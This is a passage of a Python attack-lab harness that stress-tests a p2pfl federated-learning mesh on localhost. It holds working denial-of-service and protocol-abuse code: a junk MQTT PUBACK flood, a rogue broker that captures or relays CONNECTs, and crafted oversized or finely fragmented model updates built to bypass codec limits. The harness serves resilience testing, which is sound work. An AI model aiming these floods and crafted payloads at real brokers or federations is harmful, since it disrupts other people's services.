    # -- 9 ------------------------------------------------------------------------------------------

    def member_junk(self, result: Result) -> None:
        """A certified member's session sends MQTT packets that mean nothing (PUBACKs for messages never
        sent): each costs the attacker 4 bytes. What does each cost the victim (CPU, log)?"""
        port, budget, victim = self.lab.victim.port, self.budget, self.lab.victim
        context = self.mallory_tls() if self.tls else None
        token = None if self.tls else self.mallory_password()
        if context is None and token is None:
            result.error = "no way to log in as a member in this tree"
            return
        from p2pfl.node import load_credentials

        me = load_credentials(self.mallory_dir())[0].node_id
        log0 = victim.log_size()
        raw = socket.create_connection((HOST, port), timeout=10)
        sent = 0
        with contextlib.ExitStack() as stack:
            sock: socket.socket | ssl.SSLSocket = stack.enter_context(raw)
            if context is not None:
                sock = stack.enter_context(context.wrap_socket(raw))
            packet = mqtt_connect(
                f"{me}-{os.urandom(4).hex()}",
                username=token[0] if token else None,
                password=token[1].encode() if token else None,
            )
            sock.sendall(packet)
            answer = connack(sock, 10)
            if answer == "rc 0":
                batch = b"".join(bytes([0x40, 2]) + struct.pack(">H", 1 + i % 65000) for i in range(1000))
                deadline = time.monotonic() + 60
                try:
                    while sent < budget.junk_packets and time.monotonic() < deadline:
                        sock.sendall(batch)
                        sent += 1000
                except OSError as exc:
                    answer += f", then closed by the node after {sent} packets ({exc.__class__.__name__})"
            # the session stays open while the victim works through what is buffered: count its amqtt
            # log lines until they stop growing for 3 s (its round lines go on meanwhile), at most 60 s
            amqtt_lines, still_since, deadline = -1, time.monotonic(), time.monotonic() + 60
            while time.monotonic() < deadline and time.monotonic() - still_since < 3.0:
                time.sleep(0.5)
                count = sum(1 for line in victim.log_text(log0).splitlines() if " amqtt" in line)
                if count != amqtt_lines:
                    amqtt_lines, still_since = count, time.monotonic()
        grown = victim.log_size() - log0
        result.attack = f"a certified member's session sends {sent} PUBACKs for nothing ({sent * 4} bytes)"
        result.notes.append(f"CONNECT: {answer}")
        result.notes.append(
            f"victim's log grew by {grown / 1e6:.2f} MB meanwhile, {amqtt_lines} lines of it from amqtt"
        )


def _drain_connects(
    sel: selectors.BaseSelector, pending: set[socket.socket], opened: list[socket.socket], timeout: float
) -> int:
    failed = 0
    for key, _ in sel.select(timeout=timeout):
        sock: socket.socket = key.fileobj  # type: ignore[assignment]
        sel.unregister(sock)
        pending.discard(sock)
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            opened.append(sock)
        else:
            sock.close()
            failed += 1
    return failed


def _raise_own_nofile(need: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < need:
        target = need if hard == resource.RLIM_INFINITY else min(need, hard)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


class RogueBroker:
    """A listener on 127.0.0.1 that records what connecting nodes send; optionally answers CONNECT with
    CONNACK 0 (a broker that accepts anyone) or relays every byte to a real broker."""

    MAX_CONNECTIONS = 16
    MAX_RECORD = 64 << 10

    def __init__(self, answer: bool = False, relay_to: int | None = None) -> None:
        self.answer = answer
        self.relay_to = relay_to
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.listener.bind((HOST, 0))
        self.listener.listen(16)
        self.listener.settimeout(0.5)
        self.port = int(self.listener.getsockname()[1])
        self.accepted = 0
        self.first_bytes: Counter[str] = Counter()
        self.connects: list[dict[str, Any]] = []
        self.relayed = 0
        self._stop = threading.Event()
        self._socks: list[socket.socket] = []
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set() and self.accepted < self.MAX_CONNECTIONS:
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted += 1
            with self._lock:
                self._socks.append(conn)
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        conn.settimeout(0.5)
        upstream: socket.socket | None = None
        if self.relay_to is not None:
            try:
                upstream = socket.create_connection((HOST, self.relay_to), timeout=5)
                upstream.settimeout(0.5)
                with self._lock:
                    self._socks.append(upstream)
            except OSError:
                return
        seen = b""
        kinds = {0x16: "TLS handshake", 0x10: "MQTT CONNECT"}
        while not self._stop.is_set():
            try:
                data = conn.recv(65536)
            except TimeoutError:
                data = None
            except OSError:
                return
            if data == b"":
                return
            if data:
                if not seen:
                    self.first_bytes[kinds.get(data[0], f"0x{data[0]:02x}")] += 1
                if len(seen) < self.MAX_RECORD:
                    seen += data[: self.MAX_RECORD - len(seen)]
                    parsed = parse_connect(seen)
                    if parsed is not None and not any(c is parsed for c in self.connects):
                        if len(self.connects) < self.MAX_CONNECTIONS and (
                            not self.connects or self.connects[-1] != parsed
                        ):
                            self.connects.append(parsed)
                        if self.answer and upstream is None and seen[0] == 0x10:
                            with contextlib.suppress(OSError):
                                conn.sendall(b"\x20\x02\x00\x00")
                if upstream is not None:
                    try:
                        upstream.sendall(data)
                        self.relayed += len(data)
                    except OSError:
                        return
            if upstream is not None:
                try:
                    back = upstream.recv(65536)
                    if back == b"":
                        return
                    conn.sendall(back)
                    self.relayed += len(back)
                except TimeoutError:
                    pass
                except OSError:
                    return

    def summary(self) -> str:
        if not self.accepted:
            return "no node connected"
        kinds = ", ".join(f"{k} x{v}" for k, v in self.first_bytes.most_common()) or "nothing sent"
        text = f"{self.accepted} connections from nodes, first bytes: {kinds}"
        if self.relay_to is not None:
            text += f"; {self.relayed} bytes relayed"
        return text

    def close(self) -> None:
        self._stop.set()
        self.listener.close()
        self._thread.join(timeout=5)
        with self._lock:
            for sock in self._socks:
                with contextlib.suppress(OSError):
                    sock.close()


async def _hostile_member(
    lab: Lab,
    directory: Path,
    identity: Any,
    cert: Any,
    root: Any,
    budget: Budget,
    notes: list[str],
) -> None:
    """Run a certified member's mesh in this process and send the victim crafted updates through its
    own broker (the only way a member's update reaches a neighbour). Notes go to `notes` as they come."""
    import numpy as np

    from p2pfl import codec
    from p2pfl import config as config_mod
    from p2pfl.envelope import UpdateMeta, seal
    from p2pfl.learning import get_params, load_task
    from p2pfl.mesh import MqttMesh
    from p2pfl.metrics import Metrics
    from p2pfl.transport import framing
    from p2pfl.transport.topics import QOS, update_topic

    victim = lab.victim
    cfg = config_mod.load(victim.directory / "node.toml")
    cfg.node.name, cfg.node.data_dir, cfg.node.port = "mallory", str(directory), 0
    cfg.discovery.expect_peers = 0
    cfg = config_mod.validate(cfg)
    kwargs: dict[str, Any] = {}
    if "tls" in inspect.signature(MqttMesh).parameters:
        from p2pfl.tls import load_node_tls

        kwargs["tls"] = load_node_tls(directory, identity, cert, root)
    metrics = Metrics(directory / "metrics.jsonl")
    mesh = MqttMesh(cfg, identity=identity, cert=cert, root=root, metrics=metrics, **kwargs)

    async def on_update(publisher: str, message: bytes) -> None:
        return None

    def refused_since(before: Counter[str]) -> str:
        delta = victim.rejected() - before
        return ", ".join(f"{k} {v}" for k, v in delta.most_common()) or "nothing"

    async def settle(broker: Any, seconds: float) -> None:
        """Wait for the broker to hand out what was queued, then give the victim `seconds` to refuse it
        (its counters reach metrics.jsonl with its next round records)."""
        end = time.monotonic() + 60.0
        while time.monotonic() < end and broker._broadcast_queue.qsize():
            await asyncio.sleep(0.2)
        await asyncio.sleep(seconds)

    members_before = int(victim.last().get("members") or 0)
    await mesh.start(on_update, lambda: None)
    deadline = time.monotonic() + budget.member_s
    try:
        while time.monotonic() < deadline and int(victim.last().get("members") or 0) <= members_before:
            await asyncio.sleep(0.5)  # the victim's next round record says whether it counts us
        members_now = int(victim.last().get("members") or 0)
        notes.append(f"victim's membership {members_before} -> {members_now} after the member joined")
        task = load_task(cfg.task)
        model = {k: np.asarray(v) for k, v in get_params(task.build_model()).items()}

        def sealed(body: bytes) -> bytes:
            meta = UpdateMeta(
                sender=identity.node_id,
                federation=root.federation_id,
                round=victim.round() + 1,
                seq=time.time_ns(),
                timestamp=time.time(),
                samples=100,
                degree=len(lab.nodes),
            )
            return seal(body, meta, identity, {victim.node_id: cert_box(victim)})

        outbox = mesh.outbox
        broker = outbox._broker
        assert broker is not None
        outbox._recipients = frozenset([victim.node_id])  # the ACL hands inbox parts to current recipients
        # (a) an honest-shaped update cut into 16-byte parts (split_message refuses to cut that fine)
        message = sealed(codec.encode(model))
        part_bytes = 16
        count = -(-len(message) // part_bytes)
        mid = os.urandom(16)
        rej0 = victim.rejected()
        t0 = time.monotonic()
        sent = 0
        for index in range(count):
            if time.monotonic() > deadline:
                break
            part = struct.pack(">4s16sIIQ", framing.PART_MAGIC, mid, index, count, len(message))
            part += message[index * part_bytes : (index + 1) * part_bytes]
            topic = update_topic(root.federation_id, identity.node_id, victim.node_id, index)
            await broker.internal_message_broadcast(topic, part, QOS)
            sent += 1
        await settle(broker, 5.0)
        notes.append(
            f"tiny parts: {sent}/{count} parts of {part_bytes} B ({len(message)} B update) in "
            f"{time.monotonic() - t0:.1f} s; victim refused {refused_since(rej0)}"
        )
        # (b) 100,000 empty tensors: a frame codec.encode would refuse to make, built by hand
        rej1 = victim.rejected()
        t1 = time.monotonic()
        big = sealed(raw_codec_frame([[f"t{i}", "float32", [0], 0, 0] for i in range(100_000)]))
        await outbox.publish_update(big, [victim.node_id])
        await settle(broker, 5.0)
        notes.append(
            f"100,000 empty tensors: {len(big) / 1e6:.1f} MB update in {time.monotonic() - t1:.1f} s; "
            f"victim refused {refused_since(rej1)}"
        )
    finally:
        await mesh.stop()


def raw_codec_frame(entries: list[list[Any]], blob: bytes = b"") -> bytes:
    """A codec frame (see p2pfl.codec) from header entries as given, with none of encode's limits."""
    import msgpack

    from p2pfl import codec

    header = msgpack.packb(entries, use_bin_type=True)
    head = struct.pack("<4sI", codec.MAGIC, len(header)) + header
    return head + bytes(-len(head) % 8) + blob


def cert_box(node: LabNode) -> bytes:
    from p2pfl.federation import Certificate

    return bytes(Certificate.from_bytes((node.directory / "certificate").read_bytes()).box_key)


# -- running -----------------------------------------------------------------------------------------


def run_scenario(lab: Lab, attack: Attack, name: str, log: Callable[[str], None]) -> Result:
    result = Result(name)
    budget = attack.budget
    result.notes.extend(lab.restart_down())
    if not all(n.running for n in lab.nodes):
        result.error = "skipped: a node is down"
        result.alive = lab.alive_text([])
        return result
    result.rounds_before = lab.rate(budget.measure_s)
    rejected0, missed0 = lab.rejected(), lab.missed()
    r0, t0 = lab.rounds(), time.monotonic()
    log(f"-- {name}: {result.rounds_before:.2f} rounds/s per node before")
    method = {
        "connect-flood": attack.connect_flood,
        "idle-conns": attack.idle_connections,
        "slowloris": attack.slowloris,
        "pre-auth-session": attack.pre_auth_session,
        "plain-client": attack.plain_client,
        "mdns-forgery": attack.mdns_forgery,
        "hostile-member": attack.hostile_member,
        "member-sessions": attack.member_sessions,
        "member-junk": attack.member_junk,
    }[name]
    fds = FdSampler(lab.victim.proc.pid)
    try:
        with fds:
            method(result)
    except Exception as exc:  # noqa: BLE001 - one scenario's failure is reported, the others still run
        result.error = f"{type(exc).__name__}: {exc}"
    if fds.peak:
        limit = f" of its limit {lab.nofile}" if lab.nofile else ""
        result.notes.append(f"victim held at most {fds.peak} descriptors{limit} (from {fds.first})")
    if result.rounds_during is None:
        result.rounds_during = _per_node_rate(r0, lab.rounds(), time.monotonic() - t0)
    stalled = lab.settle(budget.settle_s)
    result.alive = lab.alive_text(stalled)
    refused = lab.rejected() - rejected0
    result.refused = dict(refused)
    missed = lab.missed() - missed0
    if missed:
        result.notes.append(f"{missed} neighbour updates missed in rounds meanwhile")
    log(f"   {result.attack}; refused {result.refused_text()}; alive {result.alive}; "
        f"during {result.rounds_during:.2f} rounds/s; {'; '.join(result.notes)} {result.error}")  # fmt: skip
    return result


class FdSampler:
    """The peak number of open descriptors of a process while in the `with` block (Linux /proc)."""

    def __init__(self, pid: int, every_s: float = 0.2) -> None:
        self.pid = pid
        self.every_s = every_s
        self.first = 0
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def count(self) -> int:
        try:
            return len(os.listdir(f"/proc/{self.pid}/fd"))
        except OSError:
            return 0

    def _run(self) -> None:
        while not self._stop.wait(self.every_s):
            self.peak = max(self.peak, self.count())

    def __enter__(self) -> FdSampler:
        self.first = self.peak = self.count()
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)


def _fmt_rate(value: float | None) -> str:
    return "-" if value is None else f"{value:.2f}"


COLUMNS = (
    "scenario",
    "attack",
    "refused (reason: count)",
    "nodes alive",
    "rounds/s before",
    "rounds/s during",
    "notes",
)


def rows(results: list[Result]) -> list[list[str]]:
    return [
        [
            r.scenario,
            r.attack or "-",
            r.refused_text(),
            r.alive,
            _fmt_rate(r.rounds_before),
            _fmt_rate(r.rounds_during),
            "; ".join(r.notes + ([r.error] if r.error else [])) or "-",
        ]
        for r in results
    ]


def markdown(results: list[Result]) -> str:
    def cell(text: str) -> str:
        return text.replace("|", "\\|").replace("\n", " ")

    lines = ["| " + " | ".join(COLUMNS) + " |", "|" + "---|" * len(COLUMNS)]
    lines += ["| " + " | ".join(cell(c) for c in row) + " |" for row in rows(results)]
    return "\n".join(lines) + "\n"


def write_outputs(out: Path, results: list[Result], header: str) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "attack_lab.md").write_text(header + "\n\n" + markdown(results))
    with (out / "attack_lab.csv").open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(COLUMNS)
        writer.writerows(rows(results))
    (out / "results.json").write_text(json.dumps([dataclasses.asdict(r) for r in results], indent=2))


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(
        prog="attack_lab", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    p.add_argument("--quick", action="store_true", help="fewer cycles and shorter windows")
    p.add_argument(
        "--out", default=None, help="write attack_lab.md / .csv / results.json and keep the nodes here"
    )
    p.add_argument(
        "--nodes", type=int, default=3, help="nodes in the federation (>= 3: node-0 is the victim)"
    )
    p.add_argument(
        "--nofile", type=int, default=1024, help="open-file limit of every node process (0: inherit)"
    )
    p.add_argument("--round-timeout", type=float, default=5.0, help="[gossip] round_timeout_s of the nodes")
    p.add_argument(
        "--scenarios", default=",".join(SCENARIOS), help=f"comma-separated subset of: {', '.join(SCENARIOS)}"
    )
    args = p.parse_args(argv)
    args.selected = [s.strip() for s in args.scenarios.split(",") if s.strip()]
    unknown = [s for s in args.selected if s not in SCENARIOS]
    if unknown:
        p.error(f"unknown scenarios {unknown}; choose from {', '.join(SCENARIOS)}")
    if args.nodes < 3:
        p.error("--nodes must be at least 3")
    return args


@contextlib.contextmanager
def _workdir(out: str | None) -> Iterator[Path]:
    if out:
        run = Path(out).absolute() / "run"
        if run.exists():
            shutil.rmtree(run)
        run.mkdir(parents=True)
        yield run
    else:
        with tempfile.TemporaryDirectory(prefix="p2pfl-attack-lab-") as tmp:
            yield Path(tmp)


def _interrupt(signum: int, frame: object) -> None:
    raise KeyboardInterrupt


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    budget = Budget.quick() if args.quick else Budget()

    def log(message: str) -> None:
        print(message, flush=True)

    results: list[Result] = []
    previous = signal.signal(signal.SIGTERM, _interrupt)
    started = time.monotonic()
    with _workdir(args.out) as work:
        lab = Lab(work, args.nodes, args.nofile, args.round_timeout, log)
        try:
            lab.start()
            attack = Attack(lab, budget, log)
            for name in args.selected:
                results.append(run_scenario(lab, attack, name, log))
        except KeyboardInterrupt:
            log("interrupted; stopping nodes")
        except RuntimeError as exc:
            log(f"error: {exc}")
            return 2
        finally:
            lab.stop()
            signal.signal(signal.SIGTERM, previous)
    header = (
        f"attack lab: {args.nodes} nodes on 127.0.0.1 (full topology, digits MLP), victim node-0, node open-file "
        f"limit {args.nofile or 'inherited'}, {'--quick' if args.quick else 'full'} budget, "
        f"{time.monotonic() - started:.0f} s"
    )
    print()
    print(header)
    print()
    print(markdown(results))
    if args.out:
        write_outputs(Path(args.out).absolute(), results, header)
        print(f"wrote {Path(args.out) / 'attack_lab.md'} and attack_lab.csv")
    return 0


if __name__ == "__main__":
    sys.exit(main())
